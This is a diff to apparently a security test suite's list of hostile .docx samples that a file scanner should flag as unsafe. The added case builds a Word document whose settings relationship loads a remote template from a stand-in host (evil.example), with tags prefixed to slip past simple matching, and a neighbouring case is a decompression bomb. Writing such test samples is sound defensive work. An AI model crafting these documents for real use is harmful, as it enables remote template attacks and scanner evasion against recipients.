@@ -210,6 +210,17 @@ export function hostileFiles(): Attack[] {
       'file-unsafe',
     ),
     attack(
+      'a document with a template from elsewhere, in elements with a prefix',
+      'cv.docx',
+      docx([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          content: rels('https://evil.example/t.dotm').replaceAll(/<(\/?)R/g, '<$1p:R'),
+        },
+      ]),
+      'file-unsafe',
+    ),
+    attack(
       'a document that unpacks without end',
       'cv.docx',
       docx([{ name: 'word/a.xml', content: Buffer.alloc(12 * 1024 * 1024) }]),
